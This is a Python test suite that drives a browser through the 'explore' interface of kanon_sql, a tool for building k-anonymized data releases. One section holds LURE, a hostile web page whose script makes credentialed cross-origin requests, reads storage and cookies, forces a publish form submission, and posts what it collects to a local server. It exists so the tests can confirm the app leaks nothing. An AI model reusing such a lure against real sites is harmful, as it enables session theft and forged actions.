"""``explore`` in a real browser: whole walks, the keyboard alone, narrow and wide, light and dark, what goes wrong."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import duckdb
import pytest

import kanon_sql
from tests.support.explored_pages import TEXT, WAIT, answered, overflow, page_of, refuse_violations
from tests.support.explorers import Somebody, explored, make_uneven, token_of

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("browser")]


playwright = pytest.importorskip("playwright.sync_api") if not os.environ.get("KANON_REQUIRE_BROWSER") else None


# --- Walks ---------------------------------------------------------------------------------


def test_from_a_csv_file_to_a_published_release(
    chromium: Any, clinic_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with duckdb.connect(str(clinic_file)) as connection:
        connection.execute(f"COPY visits TO '{tmp_path / 'visits.csv'}'")
        connection.execute("DROP TABLE visits")
    monkeypatch.chdir(tmp_path)
    connect = partial(kanon_sql.connect, clinic_file)
    with explored(connect, None, may_publish=True) as somebody, page_of(chromium, somebody.address) as page:
        page.get_by_label("Table, or a CSV or Parquet file").fill("nowhere.csv")
        page.get_by_role("button", name="Suggest roles").click()
        page.wait_for_selector("#roles .problems")
        page.get_by_label("Table, or a CSV or Parquet file").fill("visits.csv")
        page.get_by_role("button", name="Suggest roles").click()
        page.wait_for_selector("#roles table")
        refuse_violations(page)
        for name, role in (("name", "identifier"), ("age", "quasi_identifier"), ("diagnosis", "sensitive")):
            page.get_by_label(name, exact=True).select_option(role)
        page.get_by_role("button", name="Start with these roles").click()
        answered(page, "5-anonymity")
        page.get_by_label("recoding").select_option("full_domain")
        page.get_by_label("k of k-anonymity").fill("8")
        answered(page, "8-anonymity")
        page.get_by_label("rows that may be suppressed").fill("10")
        answered(page, "no read of the source")
        page.locator("summary", has_text=re.compile("^age ")).click()
        page.get_by_label("build it by for age").select_option("intervals")
        page.get_by_label("each level of age").fill("5, 10, 30")
        page.get_by_label("each level of age").press("Tab")
        page.wait_for_function("() => document.getElementById('highest.0').innerText.includes('bands of 30')")
        answered(page, "PASS")
        page.get_by_label("try it on values, such as 37, 52 of age").fill("37, 52")
        page.get_by_role("button", name="Preview the labels of age").click()
        page.wait_for_selector("#preview-0 table")
        assert "[30, 60)" in page.inner_text("#preview-0")
        page.get_by_label("up to level of age").select_option("2")
        page.get_by_label("weight of age").fill("3")
        answered(page, "PASS")
        page.get_by_role("button", name="Keep as a candidate").click()
        page.wait_for_function("() => document.querySelector('#kept').innerText.includes('candidate 1')")
        page.get_by_label("k of k-anonymity").fill("20")
        answered(page, "20-anonymity")
        page.get_by_label("Keep the controls as").fill("stricter")
        page.get_by_label("Keep the controls as").press("Enter")
        page.wait_for_function("() => document.querySelector('#kept').innerText.includes('stricter')")
        page.get_by_role("button", name="Compare the selected ones").click()
        page.wait_for_selector("#candidates table")
        page.get_by_role("button", name="Draw the curve").click()
        page.wait_for_selector("#curve svg")
        page.get_by_role("button", name="List the nodes").click()
        page.wait_for_selector("#nodes table")
        page.get_by_role("button", name="Measure").click()
        page.wait_for_selector("#risk .part")
        refuse_violations(page)
        with page.expect_download() as saving:
            page.get_by_role("button", name="Save the spec").click()
        assert kanon_sql.Spec.parse(Path(saving.value.path()).read_text()).quasi_identifiers["age"].weight == 3
        page.on("dialog", lambda dialog: dialog.accept())
        page.get_by_role("button", name="Publish the release").click()
        page.wait_for_selector("#published .pass")
        assert "Published" in page.inner_text("#published")
        page.get_by_role("button", name="Run the attacks").click()
        page.wait_for_selector("#attacks .part")
        refuse_violations(page)
    with duckdb.connect(str(clinic_file), read_only=True) as connection:
        ((rows, smallest),) = connection.execute(
            "SELECT SUM(n), MIN(n) FROM (SELECT COUNT(*) AS n FROM visits_release GROUP BY ALL)".replace(
                "GROUP BY ALL", "GROUP BY age, zip"
            )
        ).fetchall()
    assert rows > 500
    assert smallest >= 20


def test_the_keyboard_alone_is_enough(chromium: Any, clinic_file: Path) -> None:
    connect = partial(kanon_sql.connect, clinic_file, read_only=True)
    with explored(connect, kanon_sql.Spec.parse(TEXT)) as somebody, page_of(chromium, somebody.address) as page:
        answered(page, "5-anonymity")

        def tab_to(name: str, most: int = 60) -> None:
            for _ in range(most):
                page.keyboard.press("Tab")
                focused = page.evaluate(
                    "() => (document.activeElement.labels?.[0] ?? document.activeElement).textContent.trim()"
                )
                if name in focused:  # and one sees where that is, on a busy machine a moment later
                    page.wait_for_function("() => getComputedStyle(document.activeElement).outlineStyle !== 'none'")
                    return
            raise AssertionError(f"no Tab leads to {name}")

        tab_to("Skip to the answer")
        page.keyboard.press("Enter")
        assert page.evaluate("() => document.activeElement.id") == "answer"
        page.reload()
        answered(page, "5-anonymity")
        tab_to("k of k-anonymity")
        page.keyboard.press("ArrowUp")
        answered(page, "6-anonymity")
        assert page.evaluate("() => document.activeElement.id") == "privacy.0.k", "the focus stays"
        tab_to("recoding")
        page.keyboard.press("ArrowDown")
        page.wait_for_function("() => document.getElementById('recoding').value === 'local'")
        answered(page, "6-anonymity")
        tab_to("age")
        page.keyboard.press("Enter")
        tab_to("weight of age")
        tab_to("Draw the curve")
        page.keyboard.press("Space")
        page.wait_for_selector("#curve svg")


# --- Looks ---------------------------------------------------------------------------------


@pytest.mark.campaign_on("720", "380-light", "1440-dark")
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize(("width", "scale"), [(380, 1), (1440, 1), (720, 2)], ids=["380", "1440", "zoomed 200 %"])
def test_nothing_is_wider_than_the_window_and_no_rule_of_axe_is_broken(
    chromium: Any, clinic_file: Path, width: int, scale: int, scheme: str
) -> None:
    connect = partial(kanon_sql.connect, clinic_file, read_only=True)
    with (
        explored(connect, kanon_sql.Spec.parse(TEXT)) as somebody,
        page_of(chromium, somebody.address, width, color_scheme=scheme, device_scale_factor=scale) as page,
    ):
        answered(page, "5-anonymity")
        for item in page.query_selector_all("#controls details > summary"):
            item.click()
        page.get_by_role("button", name="List the nodes").click()
        page.wait_for_selector("#nodes table")
        page.get_by_label("k of k-anonymity").fill("0")
        page.wait_for_selector("#problems li")
        seen = page.locator("#problems li").bounding_box()
        assert seen["y"] + seen["height"] <= 900, "what is wrong is seen where one types"
        assert overflow(page) <= 0
        refuse_violations(page)
        ground = page.evaluate("() => getComputedStyle(document.querySelector('.kanon')).backgroundColor")
        assert (sum(map(int, re.findall(r"\d+", ground)[:3])) < 200) == (scheme == "dark")


@pytest.mark.parametrize("width", [380, 1440])
def test_the_page_that_asks_for_a_table_breaks_no_rule(chromium: Any, clinic_file: Path, width: int) -> None:
    connect = partial(kanon_sql.connect, clinic_file, read_only=True)
    with (
        explored(connect, None, table="visits") as somebody,
        page_of(chromium, somebody.address, width) as page,
    ):
        page.wait_for_selector("#roles table")
        refuse_violations(page)
        assert overflow(page) <= 0


@pytest.mark.campaign
def test_the_lattice_is_zoomed_and_its_nodes_are_told(chromium: Any, clinic_file: Path) -> None:
    connect = partial(kanon_sql.connect, clinic_file, read_only=True)
    with explored(connect, kanon_sql.Spec.parse(TEXT)) as somebody, page_of(chromium, somebody.address) as page:
        answered(page, "5-anonymity")
        picture = 'svg[aria-labelledby^="full-lattice"]'

        def seen() -> list[float]:
            return [float(part) for part in page.get_attribute(picture, "viewBox").split()]

        whole = seen()
        page.get_by_role("button", name="zoom in").click()
        once = seen()
        assert once[2] == pytest.approx(whole[2] / 1.5, abs=0.1)
        assert once[2] / once[3] == pytest.approx(whole[2] / whole[3], rel=0.01), "nothing is stretched"
        frame = page.locator(f".drawing:has({picture})")
        for _ in range(5):
            page.keyboard.press("Tab")
        ring = "() => getComputedStyle(document.activeElement).outlineStyle"
        assert (frame.evaluate("(item) => item === document.activeElement"), page.evaluate(ring)) == (True, "solid")
        for _ in range(40):
            page.keyboard.press("+")
        assert seen()[2] == pytest.approx(whole[2] / 12, abs=0.1), "and no closer"
        page.keyboard.press("ArrowLeft")
        left = seen()
        page.keyboard.press("ArrowRight")
        page.keyboard.press("ArrowDown")
        assert seen()[0] > left[0]
        assert seen()[1] > left[1]
        for _ in range(60):
            page.keyboard.press("ArrowRight")
        assert seen()[0] + seen()[2] == pytest.approx(whole[0] + whole[2], abs=0.1), "one does not leave the picture"
        page.keyboard.press("n")
        told = page.inner_text("#lattice-said")
        assert re.search("suppressed|as in the source", told)
        assert page.locator(".looked title").text_content() == told
        mark = page.locator(".looked").bounding_box()
        box = frame.bounding_box()
        assert box["x"] - 1 <= mark["x"] <= box["x"] + box["width"], "the picture follows"
        for _ in range(8):
            page.keyboard.press("n")
            mark, box = page.locator(".looked").bounding_box(), frame.bounding_box()
            for axis, size in (("x", "width"), ("y", "height")):
                assert box[axis] <= mark[axis] + mark[size] / 2 <= box[axis] + box[size], "and it follows again"
        for _ in range(7):
            page.keyboard.press("p")
        assert page.inner_text("#lattice-said") != told
        page.keyboard.press("p")
        assert page.inner_text("#lattice-said") == told
        page.keyboard.press("0")
        assert seen() == whole
        box = page.locator(picture).bounding_box()
        page.mouse.move(box["x"] + 10, box["y"] + 10)
        page.mouse.wheel(0, -100)
        page.wait_for_function(
            f"(width) => document.querySelector('{picture}').viewBox.baseVal.width < width", arg=whole[2]
        )
        assert seen()[0] < whole[2] / 10, "what is under the pointer stays there"
        page.keyboard.press("0")
        page.keyboard.press("-")
        assert seen() == whole, "no farther than the whole"
        page.get_by_role("button", name="next node").click()
        for _ in range(6):
            page.get_by_role("button", name="zoom in").click()
        mark, box = page.locator(".looked").bounding_box(), frame.bounding_box()
        assert box["y"] <= mark["y"] + mark["height"] / 2 <= box["y"] + box["height"], "it stays in the picture"
        page.get_by_role("button", name="whole").click()
        hovered = page.locator(f"{picture} circle:has(title)").last
        hovered.hover(force=True)
        assert page.inner_text("#lattice-said") == hovered.locator("title").text_content()
        page.keyboard.press("Escape")
        frame.blur()
        before = page.evaluate("() => scrollY")
        page.mouse.wheel(0, 300)
        page.wait_for_function("(before) => scrollY > before", arg=before)
        assert seen() == whole, "elsewhere the wheel scrolls the page"
        refuse_violations(page)


def test_a_warning_that_comes_later_stands_where_the_others_do(chromium: Any, tmp_path: Path) -> None:
    text = make_uneven(tmp_path / "clinic.duckdb")
    connect = partial(kanon_sql.connect, tmp_path / "clinic.duckdb", read_only=True)
    with explored(connect, kanon_sql.Spec.parse(text)) as somebody, page_of(chromium, somebody.address) as page:
        answered(page, "2-anonymity")
        page.wait_for_selector("#answer #warnings :text('uneven_suppression')")
        assert "being counted" not in page.inner_text("#answer")
        assert page.locator("[data-warnings]").count() == 0
        refuse_violations(page)


def test_a_release_is_certified_and_a_warning_read(chromium: Any, clinic_file: Path, tmp_path: Path) -> None:
    text = TEXT.replace("zip: {prefix: [4, 3, 2]}", "zip: {minimum_level: 1}")
    connect = partial(kanon_sql.connect, clinic_file)
    with (
        explored(connect, kanon_sql.Spec.parse(text), may_publish=True, directory=tmp_path) as somebody,
        page_of(chromium, somebody.address, 380) as page,
    ):
        answered(page, "5-anonymity")
        with page.context.expect_page() as opening:
            page.get_by_role("link", name="docs/reference/warnings.md#column_fully_generalized").click()
        other = opening.value
        other.wait_for_selector("#column_fully_generalized:target")
        refuse_violations(other)
        assert overflow(other) <= 0
        other.close()
        page.on("dialog", lambda dialog: dialog.accept())
        page.get_by_role("button", name="Publish the release").click()
        page.wait_for_selector("#published .pass")
        page.get_by_label("directory of the certificate").fill("../elsewhere")
        page.get_by_role("button", name="Certify the release").click()
        page.wait_for_selector("#certified .problems")
        page.get_by_label("directory of the certificate").fill("papers")
        page.get_by_label("who certifies").fill("The office")
        page.get_by_label("who certifies").press("Enter")
        page.wait_for_selector("#certified .pass")
        assert "python papers/verify_certificate.py papers -d DATABASE" in page.inner_text("#certified")
        assert (tmp_path / "papers" / "certificate.json").is_file()
        refuse_violations(page)
        assert overflow(page) <= 0


# --- Another user of the machine -----------------------------------------------------------

LURE = """<!DOCTYPE html><title>lure</title><body><iframe name="framed"></iframe><script>
const told = [], target = "TARGET", visit = "VISIT", credentials = "include", method = "POST";
const ways = [
  { credentials }, { credentials, mode: "no-cors" }, { credentials, method, headers: { "X-Kanon-Key": "x" } },
  { credentials, method, mode: "no-cors", body: new URLSearchParams({ asked: "" }) },
];
const paths = ["/", "/visits", "/enter", visit, visit + "spec.yml", visit + "publish"];
const tries = paths.flatMap((path) => ways.map((way) => fetch(target + path, way)
  .then((answer) => answer.text()).then((text) => { if (text) told.push(text); }, () => {})));
for (const store of [sessionStorage, localStorage]) told.push(...Object.values(store));
told.push(...[document.cookie, document.referrer, window.name, window.opener ? "opener" : ""].filter((text) => text));
const form = document.createElement("form");
Object.assign(form, { action: target + visit + "publish", method, target: "framed" });
document.body.append(form);
form.submit();
const body = () => JSON.stringify(told), over = () => { document.title = "done"; };
Promise.all(tries).then(() => fetch("/told", { method, body: body() })).then(over);
</script></body>"""
"""A page that tries all that a page can to read or to move another one on this machine."""


@contextmanager
def hostile(target: str, visit: str) -> Iterator[tuple[str, list[tuple[str, dict[str, str], str]]]]:
    """A server of somebody else on another port of this machine: its address, and all that it was sent."""
    got: list[tuple[str, dict[str, str], str]] = []

    class Lure(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", "0"))).decode()
            got.append((self.path, dict(self.headers), body))
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("set-cookie", "hers=1")
            self.end_headers()
            self.wfile.write(LURE.replace("TARGET", target).replace("VISIT", visit).encode())

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Lure)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/", got
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def test_a_page_on_another_port_is_sent_nothing_that_lets_it_in(chromium: Any, clinic_file: Path) -> None:
    """It is opened in a tab beside the page, from the page's own tab, and then replays all that it was sent."""
    connect = partial(kanon_sql.connect, clinic_file)
    with explored(connect, kanon_sql.Spec.parse(TEXT), may_publish=True) as somebody:
        context = chromium.new_context()
        context.set_default_timeout(WAIT)
        page = context.new_page()
        page.goto(somebody.address)
        answered(page, "5-anonymity")
        key, visit = (page.evaluate(f"() => sessionStorage.getItem('{name}')") for name in ("key", "visit"))
        done = "() => document.title === 'done'"
        with hostile(f"http://{somebody.host}", visit) as (lure, got):
            other = context.new_page()
            other.goto(lure)
            other.wait_for_function(done)
            with context.expect_page() as opening:
                page.evaluate(f"() => {{ window.open('{lure}opened'); }}")
            opening.value.wait_for_function(done)
            empty = context.new_page()
            empty.goto(somebody.address.partition("#")[0])
            empty.wait_for_selector("[role=alert]:has-text('needs the whole address')")
            empty.evaluate(f"() => {{ location.href = '{lure}after'; }}")
            empty.wait_for_function(done)
            page.evaluate(f"() => {{ location.href = '{lure}same-tab'; }}")
            page.wait_for_function(done)
            told = [json.loads(body) for path, _, body in got if path == "/told"]
            assert len(told) == 4
            assert {word for words in told for word in words} <= {"hers=1"}, "its own cookie, and nothing else"
            secrets = {key, visit.strip("/"), token_of(somebody.address), token_of(somebody.told[0])}
            own = ("host", "origin", "content-length", "content-type", "connection", "accept-encoding")
            for path, headers, body in got:
                assert not [word for word in secrets if word in f"{path} {headers} {body}"]
                sent = {name.replace("-", "_"): text for name, text in headers.items() if name.lower() not in own}
                thief = Somebody(somebody.address)
                for replayed in (sent, {**sent, "Sec_Fetch_Site": "same-origin"}):
                    assert thief.send(visit, **replayed).status == 403
                    assert thief.send("/visits", {}, **replayed).status == 403
                    assert thief.send(f"{visit}publish", {}, **replayed).status == 403
        page.go_back()
        answered(page, "5-anonymity")
        context.close()
    with duckdb.connect(str(clinic_file), read_only=True) as connection:
        assert ("visits_release",) not in connection.execute("SELECT table_name FROM duckdb_tables()").fetchall()


def test_the_token_is_in_no_address_that_a_browser_keeps_or_sends(chromium: Any, clinic_file: Path) -> None:
    connect = partial(kanon_sql.connect, clinic_file, read_only=True)
    with explored(connect, kanon_sql.Spec.parse(TEXT)) as somebody:
        context, asked = chromium.new_context(), []
        page = context.new_page()
        page.on("request", lambda request: asked.append((request.url, request.post_data, request.all_headers())))
        page.goto(somebody.address)
        answered(page, "5-anonymity")
        key, visit = (page.evaluate(f"() => sessionStorage.getItem('{name}')") for name in ("key", "visit"))
        assert page.evaluate("() => [location.href, history.length]")[0] == somebody.address.partition("#")[0]
        assert context.cookies() == []
        carriers = [body for _, body, _ in asked if body and token_of(somebody.address) in body]
        assert carriers == [f"token={token_of(somebody.address)}"], "once, to the server itself"
        for url, _, headers in asked:
            assert token_of(somebody.address) not in url.partition("#")[0]
            assert key not in url
            assert not {"cookie", "referer"} & headers.keys()
        page.get_by_label("k of k-anonymity").fill("7")
        answered(page, "7-anonymity")
        page.reload()
        answered(page, "7-anonymity")
        assert page.evaluate("() => sessionStorage.getItem('visit')") == visit, "the page stays as it was"
        page.goto(somebody.address)  # of the history, or typed once more: the tab is known
        answered(page, "7-anonymity")
        page.goto(somebody.told[-1].rpartition(" ")[2])  # the terminal's next one: a page of its own
        answered(page, "5-anonymity")
        context.close()


# --- What goes wrong -----------------------------------------------------------------------


@pytest.mark.campaign
def test_two_tabs_have_controls_of_their_own(chromium: Any, clinic_file: Path) -> None:
    connect = partial(kanon_sql.connect, clinic_file, read_only=True)
    with explored(connect, kanon_sql.Spec.parse(TEXT)) as somebody, page_of(chromium, somebody.address) as first:
        answered(first, "5-anonymity")
        second = first.context.new_page()
        second.set_default_timeout(WAIT)
        second.goto(somebody.address)
        second.wait_for_selector("[role=alert]:has-text('was used before')")
        second.goto(somebody.told[0].rpartition(" ")[2])
        first.get_by_label("k of k-anonymity").fill("9")
        second.get_by_label("k of k-anonymity").fill("7")
        answered(first, "9-anonymity")
        answered(second, "7-anonymity")
        first.get_by_label("rows that may be suppressed").fill("3")
        answered(first, "9-anonymity")
        first.reload()
        answered(first, "9-anonymity")
        assert {first.url, second.url} == {somebody.address.partition("#")[0]}


def test_a_search_of_minutes_is_stopped_at_the_best_so_far(chromium: Any, clinic_file: Path) -> None:
    def slow() -> Any:
        engine = kanon_sql.connect(clinic_file, read_only=True)
        fetch: Callable[..., Any] = engine.fetch

        def waits(statement: Any, limit: int) -> Any:
            rows = fetch(statement, limit)
            if statement.name == "evaluate/node":
                time.sleep(2)
            return rows

        engine.fetch = waits  # type: ignore[method-assign]
        return engine

    spec = kanon_sql.Spec.parse(TEXT.replace("optimal", "bottom_up").replace("max_share: 0.05", "max_share: 0.3"))
    with explored(slow, spec) as somebody, page_of(chromium, somebody.address) as page:
        page.wait_for_selector(".waiting:has-text('searching the lattice'):has-text('nodes evaluated')")
        refuse_violations(page)
        page.get_by_role("button", name=re.compile("^Stop")).click()
        page.wait_for_selector("#answer .stopped")
        assert "The search was interrupted: this is the best so far" in page.inner_text("#answer")


def started(*arguments: object) -> tuple[subprocess.Popen[str], str]:
    """The program itself, and the address that it prints."""
    command = [sys.executable, "-m", "kanon_sql", "explore", *map(str, arguments), "--no-browser"]
    program = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert program.stdout is not None
    return program, program.stdout.readline().strip()


@pytest.mark.campaign
def test_a_server_that_was_killed_is_told_and_another_one_has_another_address(
    chromium: Any, clinic_file: Path, tmp_path: Path
) -> None:
    (tmp_path / "spec.yml").write_text(TEXT)
    program, address = started(tmp_path / "spec.yml", "-d", clinic_file)
    again = None
    try:
        with page_of(chromium, address) as page:
            answered(page, "5-anonymity")
            program.kill()
            program.wait(30)
            page.get_by_label("k of k-anonymity").fill("6")
            page.wait_for_selector("#problems:has-text('The server does not answer')")
            port = re.findall(r":(\d+)/", address)[0]
            again, other = started(tmp_path / "spec.yml", "-d", clinic_file, "--port", port)
            page.get_by_label("k of k-anonymity").fill("7")
            page.wait_for_selector("#problems:has-text('needs the whole address')")
            page.goto(other)
            answered(page, "5-anonymity")
            again.terminate()
            assert again.wait(30) == 0, "told to end, it ends in good order"
    finally:
        for left in (program, again):
            if left is not None and left.poll() is None:
                left.kill()
                left.wait(30)
